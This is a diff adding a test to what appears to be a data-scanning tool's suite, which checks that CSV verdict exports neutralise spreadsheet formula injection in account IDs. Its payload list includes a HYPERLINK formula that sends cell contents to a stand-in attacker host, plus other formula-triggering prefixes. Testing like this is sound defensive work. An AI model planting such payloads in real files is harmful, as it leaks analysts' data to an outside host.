@@ -111,3 +111,22 @@ def test_a_utc_offset_no_time_zone_has_is_quarantined_with_its_reason(store, tmp
     kept = rows(store, "SELECT exchange_id, timestamp FROM exchanges ORDER BY exchange_id")
     assert [k[0] for k in kept] == ["ex-3", "ex-4", "ex-5", "ex-6", "ex-7"]
     assert kept[0][1].isoformat() == "2026-04-21T20:00:00+00:00"
+
+
+# --- what is written for analysts ----------------------------------------------------------
+
+def test_verdicts_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
+    import csv
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "plain-account"]
+    write_jsonl(tmp_path / "in.jsonl", [good_record(i, account_id=hostile[i % len(hostile)])
+                                        for i in range(6 * len(hostile))])
+    db = str(tmp_path / "s.duckdb")
+    assert run_cli("ingest", str(tmp_path / "in.jsonl"), "--db", db).returncode == 0
+    done = run_cli("scan", "--db", db, "--out", str(tmp_path / "out"), "--lookback", "3650")
+    assert done.returncode == 0, done.stderr
+    with open(tmp_path / "out" / "verdicts.csv", newline="") as fh:
+        accounts = {row["account_id"] for row in csv.DictReader(fh)}
+    assert accounts == {"'" + a for a in hostile[:5]} | {"plain-account"}
+    stored = pq.read_table(tmp_path / "out" / "verdicts.parquet").column("account_id").to_pylist()
+    assert set(stored) == set(hostile)  # the Parquet output keeps the ids as they are
